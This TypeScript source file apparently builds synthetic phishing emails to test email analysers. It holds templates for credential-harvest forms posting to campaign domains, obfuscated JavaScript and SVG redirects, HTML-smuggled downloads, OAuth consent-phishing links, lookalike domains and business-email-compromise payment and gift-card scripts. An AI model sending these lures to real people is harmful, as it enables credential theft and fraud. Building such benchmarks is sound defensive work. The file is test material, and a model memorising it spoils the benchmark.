// Phishing written by hand for the benchmark, after the kinds real campaigns send (as security vendors'
// and CERTs' public write-ups describe them), not after the desk's analysers: credential-harvest links
// with honest-looking text, QR codes, HTML and SVG attachments, brand impersonation, reply-chain hijacks
// without links, invoice and business-email-compromise text, OAuth consent links, links on legitimate
// file-sharing and hosting services, lookalike domains, macro documents, disk images and shortcuts. Each
// template is filled from a seed (names, brands, domains, numbers, wording). The last template of each
// kind is held out: kept out of sight while the analysers were tuned, and reported on its own.

import type { SeededRandom } from './generate.js';
import { type Draft, mimeMessage, type Part } from './mime.js';
import { diskImage, legacyMacroDocument, macroWorkbook, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';

export const KINDS = [
  'credential-link',
  'qr-code',
  'html-attachment',
  'brand-impersonation',
  'reply-chain',
  'bec-text',
  'oauth-consent',
  'file-sharing-host',
  'lookalike-domain',
  'macro-document',
  'disk-image-or-shortcut',
] as const;
export type Kind = (typeof KINDS)[number];

/** What a template is filled with. */
interface Fill {
  random: SeededRandom;
  n: number;
  /** Someone at the victim's company (corp.example), by name. */
  colleague: { first: string; last: string };
  /** A small business whose site or mailbox the campaign took over. */
  compromised: string;
  /** A domain the campaign registered, named after nothing in particular. */
  registered: string;
  brand: { name: string; domain: string };
  carrier: string;
}

interface Template {
  kind: Kind;
  make(f: Fill): Promise<Omit<Draft, 'number'>> | Omit<Draft, 'number'>;
}

export interface WrittenPhish {
  raw: string;
  kind: Kind;
  /** Template name, kind:index. */
  template: string;
  heldOut: boolean;
}

const FIRST = ['Maria', 'John', 'Anne', 'Tom', 'Sofia', 'David', 'Priya', 'Lukas', 'Emma', 'Omar'];
const LAST = ['Keller', 'Ashford', 'Dubois', 'Becker', 'Rossi', 'Nguyen', 'Patel', 'Novak', 'Lindqvist'];
const BUSINESS = [
  'greenvalleydental',
  'lakeside-bakery',
  'northfieldchurch',
  'atlasroofing',
  'bluefinmarine',
];
const WORDS = ['portal', 'secure', 'docs', 'cloud', 'review', 'files', 'access', 'notice', 'center', 'hub'];
const TLDS = ['com', 'net', 'online', 'site', 'top', 'xyz', 'info', 'co'];
const IMPERSONATED = [
  { name: 'Microsoft', domain: 'microsoft.com' },
  { name: 'DocuSign', domain: 'docusign.com' },
  { name: 'Netflix', domain: 'netflix.com' },
  { name: 'Adobe', domain: 'adobe.com' },
  { name: 'Norton', domain: 'norton.com' },
  { name: 'WeTransfer', domain: 'wetransfer.com' },
  { name: 'Okta', domain: 'okta.com' },
  { name: 'Zoom', domain: 'zoom.us' },
];
const CARRIERS = ['DHL Express', 'FedEx', 'UPS', 'Royal Mail', 'La Poste', 'PostNL'];
const FREEMAIL = ['gmail.com', 'outlook.com', 'yahoo.com', 'icloud.com', 'aol.com'];

const page = (body: string) => `<html><body style="font-family:Segoe UI,Arial">${body}</body></html>`;
const button = (href: string, text: string) =>
  `<a href="${href}" style="background:#0067b8;color:#fff;padding:10px 18px;text-decoration:none">${text}</a>`;
const quoted = (f: Fill, lines: string[]) =>
  `\n\nOn Thu, 29 Oct 2026 at 14:02, ${f.colleague.first} ${f.colleague.last} <${f.colleague.first.toLowerCase()}.${f.colleague.last.toLowerCase()}@corp.example> wrote:\n${lines.map((l) => `> ${l}`).join('\n')}\n`;
const attachment = (type: string, name: string, content: Buffer): Part => ({ type, name, content });

const TEMPLATES: Template[] = [
  // credential-link: the link's text says what it does, honestly worded; the page behind it asks to sign in
  {
    kind: 'credential-link',
    make: (f) => ({
      headers: [`From: "Mail Administrator" <noreply@${f.compromised}>`],
      subject: 'Mailbox storage full - incoming messages on hold',
      html: page(
        `<p>Your mailbox staff@corp.example has reached 99% of its storage.</p><p>${2 + (f.n % 9)} incoming messages are on hold and will be deleted after 48 hours.</p><p>${button(`https://www.${f.compromised}/wp-content/uploads/2026/${f.n}/index.php?email=staff@corp.example`, 'Release pending messages')}</p><p>Mail Administrator<br>corp.example</p>`,
      ),
    }),
  },
  {
    kind: 'credential-link',
    make: (f) => ({
      headers: [`From: "Human Resources" <hr-notice@${f.registered}>`],
      subject: `Updated remote work policy ${2026} - acknowledgement required`,
      html: page(
        `<p>Dear colleague,</p><p>Following the review of our hybrid working arrangements, all employees are asked to read and acknowledge the updated policy by Friday.</p><p><a href="https://${f.registered}/policy/ack?u=${Buffer.from('staff@corp.example').toString('base64')}">Read and acknowledge the policy</a></p><p>Kind regards,<br>HR Team</p>`,
      ),
    }),
  },
  {
    kind: 'credential-link',
    make: (f) => ({
      headers: [`From: "Voice Mail Service" <voicemail@${f.registered}>`],
      subject: `New voicemail from +44 20 7946 0${100 + (f.n % 899)} (0:${20 + (f.n % 39)})`,
      html: page(
        `<p>You received a new voice message.</p><table><tr><td>From:</td><td>+44 20 7946 0${100 + (f.n % 899)}</td></tr><tr><td>Length:</td><td>0:${20 + (f.n % 39)}</td></tr></table><p>${button(`https://${f.compromised}/vm/listen.php?id=${f.n}`, 'Play voice message')}</p>`,
      ),
    }),
  },
  // qr-code: the link is only in an image
  {
    kind: 'qr-code',
    make: async (f) => ({
      headers: [`From: "Microsoft 365 Security" <security-noreply@${f.registered}>`],
      subject: 'Action required: re-register multi-factor authentication',
      html: page(
        '<p>Your multi-factor authentication settings expire today. To keep access to your mailbox, scan the code below with your phone camera and follow the steps.</p><p><img src="cid:mfa.png" width="200"></p><p>Microsoft 365 Security</p>',
      ),
      parts: [
        {
          ...attachment('image/png', 'mfa.png', await qrPng(`https://${f.registered}/mfa/?e=${f.n}`)),
          inline: true,
        },
      ],
    }),
  },
  {
    kind: 'qr-code',
    make: async (f) => ({
      headers: [`From: "${f.colleague.first} ${f.colleague.last} via DocuSign" <dse@${f.registered}>`],
      subject: `Completed: Please DocuSign Agreement_${f.n}.pdf`,
      html: page(
        '<p>Your document has been completed. For security reasons it can only be opened on a mobile device: scan the QR code to view it.</p><p><img src="cid:view.png"></p>',
      ),
      parts: [
        {
          ...attachment('image/png', 'view.png', await qrPng(`https://${f.compromised}/ds/${f.n}`)),
          inline: true,
        },
      ],
    }),
  },
  {
    kind: 'qr-code',
    make: async (f) => ({
      headers: [`From: "Payroll" <payroll@${f.registered}>`],
      subject: 'Your Q4 bonus statement is available',
      text: 'Hello,\n\nYour Q4 bonus statement is ready. Scan the attached code to view it securely from your phone.\n\nPayroll Department',
      parts: [attachment('image/jpeg', 'statement.jpg', await qrJpeg(`https://${f.registered}/b/${f.n}`))],
    }),
  },
  // html-attachment
  {
    kind: 'html-attachment',
    make: (f) => ({
      headers: [`From: "Accounts Payable" <ap@${f.compromised}>`],
      subject: `Remittance advice ${f.n}`,
      text: 'Good morning,\n\nPlease find attached the remittance advice for your recent invoices.\n\nRegards,\nAccounts Payable',
      parts: [
        attachment(
          'text/html',
          `Remittance_${f.n}.html`,
          Buffer.from(
            page(
              `<h2>Sign in to view the document</h2><form method="post" action="https://${f.registered}/next.php"><input type="email" name="login" value="staff@corp.example"><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form>`,
            ),
          ),
        ),
      ],
    }),
  },
  {
    kind: 'html-attachment',
    make: (f) => ({
      headers: [`From: "Billing" <billing@${f.registered}>`],
      subject: `Invoice INV-${10000 + f.n} due`,
      text: 'Hi,\n\nThe invoice is attached. Payment is due within 7 days.\n\nThanks',
      parts: [
        attachment(
          'text/html',
          `INV-${10000 + f.n}.htm`,
          Buffer.from(
            `<html><head><script>var u=atob("${Buffer.from(`https://${f.registered}/inv/`).toString('base64')}");window.location.href=u+"#"+"staff@corp.example";</script></head><body>Loading document...</body></html>`,
          ),
        ),
      ],
    }),
  },
  {
    kind: 'html-attachment',
    make: (f) => ({
      headers: [`From: "Secure Message" <secure@${f.registered}>`],
      subject: 'You have received a secure message',
      text: 'Open the attached file to read your secure message.',
      parts: [
        attachment(
          'text/html',
          'SecureMessage.html',
          Buffer.from(
            `<html><body><script>var d=atob("UEsDBAoAAAAAAA==");var b=new Blob([d],{type:"application/octet-stream"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="Statement_${f.n}.zip";document.body.appendChild(a);a.click();</script></body></html>`,
          ),
        ),
      ],
    }),
  },
  {
    kind: 'html-attachment',
    make: (f) => ({
      headers: [`From: "Fax Service" <fax@${f.compromised}>`],
      subject: `Incoming fax, ${2 + (f.n % 5)} pages`,
      text: 'You have a new fax document. See attachment.',
      parts: [
        attachment(
          'image/svg+xml',
          `Fax_${f.n}.svg`,
          Buffer.from(
            `<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript"><![CDATA[window.location.href="https://${f.registered}/fax/?e=staff@corp.example";]]></script></svg>`,
          ),
        ),
      ],
    }),
  },
  // brand-impersonation
  {
    kind: 'brand-impersonation',
    make: (f) => ({
      headers: [`From: "${f.brand.name} Billing" <billing@${f.registered}>`],
      subject: `Your ${f.brand.name} subscription payment was declined`,
      html: page(
        `<p>Hi,</p><p>We were unable to process the payment for your ${f.brand.name} subscription. To avoid interruption, please update your payment method.</p><p>${button(`https://${f.registered}/billing/update`, 'Update payment method')}</p><p>The ${f.brand.name} Team<br>&copy; 2026 ${f.brand.name}</p>`,
      ),
    }),
  },
  {
    kind: 'brand-impersonation',
    make: (f) => ({
      headers: [`From: "DocuSign" <dse_na${f.n % 4}@${f.registered}>`],
      subject: `${f.colleague.first} ${f.colleague.last} sent you a document to review and sign`,
      html: page(
        `<div style="background:#1e4ca1;color:#fff;padding:20px"><p>${f.colleague.first} ${f.colleague.last} sent you a document to review and sign.</p><p>${button(`https://${f.registered}/envelope/${f.n}`, 'REVIEW DOCUMENT')}</p></div><p>Do not share this email. It contains a secure link to DocuSign.</p><p>DocuSign, Inc.</p>`,
      ),
    }),
  },
  {
    kind: 'brand-impersonation',
    make: (f) => ({
      headers: [`From: "${f.carrier}" <tracking@${f.registered}>`],
      subject: `${f.carrier}: your parcel is waiting - customs fee due`,
      html: page(
        `<p>Your parcel ${f.n}GB${1000 + f.n} is held at our depot. A customs fee of 1.99 EUR must be paid before delivery.</p><p><a href="https://${f.registered}/pay?p=${f.n}">Pay and schedule delivery</a></p><p>${f.carrier} Customer Service</p>`,
      ),
    }),
  },
  // reply-chain: a real thread, continued by whoever took over the mailbox; no link
  {
    kind: 'reply-chain',
    make: (f) => ({
      headers: [`From: "${f.colleague.first} ${f.colleague.last}" <accounts@${f.compromised}>`],
      subject: 'RE: Delivery schedule for November',
      text: `Hi,\n\nSorry for the delay. Please see the attached document and confirm.\nThe file is protected, password: ${100 + (f.n % 900)}\n\nBest regards${quoted(f, ['Thanks, can you send the updated schedule when you have it?', '', 'Regards'])}`,
      parts: [attachment('application/zip', `Doc_${f.n}.zip`, zipOf(`Doc_${f.n}.js`))],
    }),
  },
  {
    kind: 'reply-chain',
    make: (f) => ({
      headers: [`From: "Accounts" <accounts@${f.compromised}>`],
      subject: `RE: Invoice ${4000 + f.n}`,
      text: `Hello,\n\nThank you for confirming. Please note we have changed our bank following an audit, so this invoice and future ones should be paid to our new account:\n\nAccount name: ${f.compromised.split('.')[0]} Ltd\nIBAN: GB${10 + (f.n % 89)} NWBK 6016 1331 9268 19\n\nKindly let me know once the payment is scheduled.${quoted(f, [`We have received invoice ${4000 + f.n} and will pay it this week.`])}`,
    }),
  },
  {
    kind: 'reply-chain',
    make: (f) => ({
      headers: [`From: "${f.colleague.first} ${f.colleague.last}" <office@${f.compromised}>`],
      subject: 'RE: Meeting notes',
      text: `Hello,\n\nAs promised, the notes are attached, open the file and double click on View to see them.\n\nThank you${quoted(f, ['Could you share the notes from the meeting?'])}`,
      parts: [attachment('application/onenote', `Notes_${f.n}.one`, oneNote('View.hta'))],
    }),
  },
  // bec-text: no link, no attachment
  {
    kind: 'bec-text',
    make: (f) => ({
      headers: [
        `From: "${f.colleague.first} ${f.colleague.last}" <${f.colleague.first.toLowerCase()}.office${f.n % 10}@${f.random.pick(FREEMAIL)}>`,
      ],
      subject: 'Request',
      text: `Hi,\n\nAre you available? I need you to handle a payment for me discreetly. I can't talk now, let me know and I will send you the details.\n\n${f.colleague.first}\nSent from my iPhone`,
    }),
  },
  {
    kind: 'bec-text',
    make: (f) => ({
      headers: [`From: "Accounts Receivable" <ar@${f.registered}>`],
      subject: 'Updated remittance details',
      text: `Dear customer,\n\nPlease note that our banking details have changed. All outstanding and future payments must be made to the new account below; payments to the old account will not be credited.\n\nBank: Metro Bank\nSort code: 23-05-80\nAccount: ${20000000 + f.n}\n\nPlease update your records and confirm by return email.\n\nAccounts Receivable`,
    }),
  },
  {
    kind: 'bec-text',
    make: (f) => ({
      headers: [
        `From: "${f.colleague.first} ${f.colleague.last}" <ceo.${f.colleague.last.toLowerCase()}@${f.random.pick(FREEMAIL)}>`,
      ],
      subject: 'Staff appreciation',
      text: `I need you to get some Apple cards for staff appreciation, ${3 + (f.n % 4)} of them at $100 each. Scratch the back and send me pictures of the codes. It is a surprise so don't mention it to anyone.\n\n${f.colleague.first}`,
    }),
  },
  {
    kind: 'bec-text',
    make: (f) => ({
      headers: [
        `From: "${f.colleague.first} ${f.colleague.last}" <${f.colleague.first.toLowerCase()}${f.colleague.last.toLowerCase()}${f.n % 100}@${f.random.pick(FREEMAIL)}>`,
      ],
      subject: 'Direct deposit',
      text: `Hello,\n\nI changed banks and would like to update my direct deposit before the next pay date. What information do you need from me?\n\nThanks,\n${f.colleague.first}`,
    }),
  },
  {
    kind: 'bec-text',
    make: (f) => ({
      headers: [`From: "Collections Dept" <collections@${f.registered}>`],
      subject: `Final notice: invoice ${70000 + f.n} past due`,
      text: `Hello,\n\nOur records show invoice ${70000 + f.n} for 4,380.00 USD is 30 days past due. Please remit payment today to avoid a late fee and the suspension of your service. Reply to this email for the remittance details.\n\nCollections Department`,
    }),
  },
  // oauth-consent: the link goes to the real sign-in service, which hands a token to the attacker's app
  {
    kind: 'oauth-consent',
    make: (f) => ({
      headers: [`From: "SharePoint Online" <no-reply@${f.registered}>`],
      subject: `${f.colleague.first} ${f.colleague.last} shared "Q4 Budget.xlsx" with you`,
      html: page(
        `<p>${f.colleague.first} ${f.colleague.last} shared a file with you.</p><p><b>Q4 Budget.xlsx</b></p><p>${button(`https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=8f3a1c2e-${1000 + f.n}-4b1e-9c1d-3e2f1a0b9c8d&response_type=code&redirect_uri=https%3A%2F%2F${f.registered}%2Fcallback&scope=offline_access%20mail.read%20files.readwrite.all&prompt=consent`, 'Open')}</p>`,
      ),
    }),
  },
  {
    kind: 'oauth-consent',
    make: (f) => ({
      headers: [`From: "Google Docs" <comments-noreply@${f.registered}>`],
      subject: `${f.colleague.first} ${f.colleague.last} has invited you to edit a document`,
      html: page(
        `<p>${f.colleague.first} ${f.colleague.last} has invited you to edit the following document:</p><p>${button(`https://accounts.google.com/o/oauth2/auth?client_id=${300000 + f.n}-docs.apps.googleusercontent.com&redirect_uri=https://${f.registered}/oauth2&response_type=code&scope=https://mail.google.com/&access_type=offline`, 'Open in Docs')}</p>`,
      ),
    }),
  },
  // file-sharing-host: the link is on a service everyone uses, the page behind it is the attacker's
  {
    kind: 'file-sharing-host',
    make: (f) => ({
      headers: [
        `From: "${f.colleague.first} ${f.colleague.last}" <${f.colleague.first.toLowerCase()}@${f.compromised}>`,
      ],
      subject: `${f.colleague.first} ${f.colleague.last} shared "Proposal_${f.n}.pdf"`,
      html: page(
        `<p>Hi,</p><p>I have shared a proposal with you, please review it at your earliest convenience.</p><p><a href="https://firebasestorage.googleapis.com/v0/b/${f.random.pick(WORDS)}-${f.n}.appspot.com/o/index.html?alt=media&token=${f.n}a1b2">View Proposal_${f.n}.pdf</a></p>`,
      ),
    }),
  },
  {
    kind: 'file-sharing-host',
    make: (f) => ({
      headers: [`From: "${f.colleague.first} ${f.colleague.last}" <office@${f.compromised}>`],
      subject: 'Mailbox verification',
      html: page(
        `<p>All staff must verify their mailbox before the migration this weekend.</p><p><a href="https://docs.google.com/forms/d/e/1FAIpQLS${f.n}xYz/viewform">Verify mailbox</a></p><p>IT Helpdesk</p>`,
      ),
    }),
  },
  {
    kind: 'file-sharing-host',
    make: (f) => ({
      headers: [`From: "eFax" <fax@${f.compromised}>`],
      subject: `Secure fax document (${2 + (f.n % 6)} pages)`,
      html: page(
        `<p>A secure fax document has been delivered to your OneDrive.</p><p>${button(`https://${f.compromised.split('.')[0].replace(/-/g, '')}-my.sharepoint.com/:b:/g/personal/admin_${f.n}/EQ${f.n}abc`, 'Open document')}</p>`,
      ),
    }),
  },
  {
    kind: 'file-sharing-host',
    make: (f) => ({
      headers: [`From: "Document Center" <share@${f.registered}>`],
      subject: 'A document was shared with you',
      html: page(
        `<p>You have a pending document.</p><p><a href="https://${f.random.pick(WORDS)}-${f.n}.${f.random.pick(['web.app', 'pages.dev', 'r2.dev', 'netlify.app'])}/">Access document</a></p>`,
      ),
    }),
  },
  {
    kind: 'file-sharing-host',
    make: (f) => ({
      headers: [
        `From: "${f.colleague.first} ${f.colleague.last}" <${f.colleague.last.toLowerCase()}@${f.compromised}>`,
      ],
      subject: 'Shared file',
      text: `Hello,\n\nPlease find the invoice at the link below.\n\nhttps://ipfs.io/ipfs/bafybeig${f.n}dkr4vyxq/invoice.html\n\nThanks`,
    }),
  },
  // lookalike-domain: the sender's or the link's domain passes for one the reader trusts
  {
    kind: 'lookalike-domain',
    make: (f) => {
      const look = f.random.pick([
        'corp-example.com',
        'corpexample.net',
        'corp.example-it.com',
        'corp-example.online',
      ]);
      return {
        headers: [`From: "IT Service Desk" <servicedesk@${look}>`],
        subject: 'Password expiry notice',
        html: page(
          `<p>The password for staff@corp.example expires in 24 hours.</p><p><a href="https://sso.${look}/reset">Keep current password</a></p><p>IT Service Desk</p>`,
        ),
      };
    },
  },
  {
    kind: 'lookalike-domain',
    make: (f) => {
      const look = f.random.pick([
        'rnicrosoft.com',
        'micr0soft-online.com',
        'docusign.net-envelopes.com',
        'paypa1.com',
        'arnazon-billing.com',
      ]);
      return {
        headers: [`From: "Account Team" <account@${look}>`],
        subject: 'Unusual sign-in activity',
        html: page(
          `<p>We detected a sign-in to your account from a new device.</p><p>If this was not you, <a href="https://${look}/security">review your recent activity</a>.</p>`,
        ),
      };
    },
  },
  {
    kind: 'lookalike-domain',
    make: (f) => {
      const look = f.random.pick([
        'linkedln.com',
        'appleid.apple.com.verify-id.info',
        'micosoft.com',
        'dropbox-share.net',
        'adobe-cloud-docs.com',
      ]);
      return {
        headers: [`From: "Notifications" <notify@${look}>`],
        subject: 'You have a new message',
        html: page(
          `<p>You have 1 new message waiting.</p><p><a href="https://${look}/inbox">View message</a></p>`,
        ),
      };
    },
  },
  // macro-document
  {
    kind: 'macro-document',
    make: (f) => ({
      headers: [`From: "Finance" <finance@${f.compromised}>`],
      subject: `Invoice ${f.n} - overdue`,
      text: 'Please find attached the overdue invoice. Enable editing and content to view it.',
      parts: [
        attachment('application/vnd.ms-excel.sheet.macroEnabled.12', `Invoice_${f.n}.xlsm`, macroWorkbook()),
      ],
    }),
  },
  {
    kind: 'macro-document',
    make: (f) => ({
      headers: [`From: "Purchasing" <orders@${f.registered}>`],
      subject: `Purchase order PO-${5000 + f.n}`,
      text: 'Good day,\n\nKindly find our purchase order attached and send us your best price.\n\nRegards',
      parts: [attachment('application/msword', `PO-${5000 + f.n}.doc`, legacyMacroDocument())],
    }),
  },
  {
    kind: 'macro-document',
    make: (f) => ({
      headers: [`From: "Scanner" <scanner@${f.compromised}>`],
      subject: `Scanned document ${f.n}`,
      text: 'Scanned document attached.',
      parts: [attachment('application/zip', `Scan_${f.n}.zip`, zipOf(`Scan_${f.n}.docm`))],
    }),
  },
  // disk-image-or-shortcut
  {
    kind: 'disk-image-or-shortcut',
    make: (f) => ({
      headers: [`From: "Shipping" <shipping@${f.registered}>`],
      subject: `Shipping documents ${f.n}`,
      text: 'Shipping documents attached, please check and confirm.',
      parts: [attachment('application/x-iso9660-image', `Shipping_Docs_${f.n}.iso`, diskImage())],
    }),
  },
  {
    kind: 'disk-image-or-shortcut',
    make: (f) => ({
      headers: [
        `From: "${f.colleague.first} ${f.colleague.last}" <${f.colleague.first.toLowerCase()}@${f.compromised}>`,
      ],
      subject: 'Signed contract',
      text: 'Hi, the signed contract is attached.',
      parts: [attachment('application/zip', `Contract_${f.n}.zip`, zipOf(`Contract_${f.n}.pdf.lnk`))],
    }),
  },
  {
    kind: 'disk-image-or-shortcut',
    make: (f) => ({
      headers: [`From: "Bank Statement" <statements@${f.registered}>`],
      subject: 'Your monthly statement',
      text: 'Your statement is attached.',
      parts: [attachment('application/octet-stream', `Statement_${f.n}.img`, diskImage())],
    }),
  },
  {
    kind: 'disk-image-or-shortcut',
    make: (f) => ({
      headers: [`From: "HR" <hr@${f.registered}>`],
      subject: 'Salary adjustment letter',
      text: 'Please review your salary adjustment letter attached.',
      parts: [attachment('application/octet-stream', `Salary_Letter_${f.n}.vhd`, Buffer.from('conectix'))],
    }),
  },
];

/** Templates in all, for the run's estimate. */
export const TEMPLATE_COUNT = TEMPLATES.length;

/** Templates of each kind, in order; the last of each is the held-out one. */
function heldOut(template: Template): boolean {
  const same = TEMPLATES.filter((t) => t.kind === template.kind);
  return same[same.length - 1] === template;
}

/** `perTemplate` messages of every template, filled from `seed`. */
export async function writtenPhishing(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<WrittenPhish[]> {
  const random = seededRandom(seed);
  const out: WrittenPhish[] = [];
  let n = 10_000;
  for (const template of TEMPLATES) {
    const index = TEMPLATES.filter((t) => t.kind === template.kind).indexOf(template);
    for (let k = 0; k < perTemplate; k++) {
      n++;
      const fill: Fill = {
        random,
        n,
        colleague: { first: random.pick(FIRST), last: random.pick(LAST) },
        compromised: `${random.pick(BUSINESS)}.${random.pick(['com', 'org', 'net', 'co.uk'])}`,
        registered: `${random.pick(WORDS)}-${random.pick(WORDS)}${n % 100}.${random.pick(TLDS)}`,
        brand: random.pick(IMPERSONATED),
        carrier: random.pick(CARRIERS),
      };
      out.push({
        raw: mimeMessage({ ...(await template.make(fill)), number: n }),
        kind: template.kind,
        template: `${template.kind}:${index + 1}`,
        heldOut: heldOut(template),
      });
    }
  }
  return out;
}
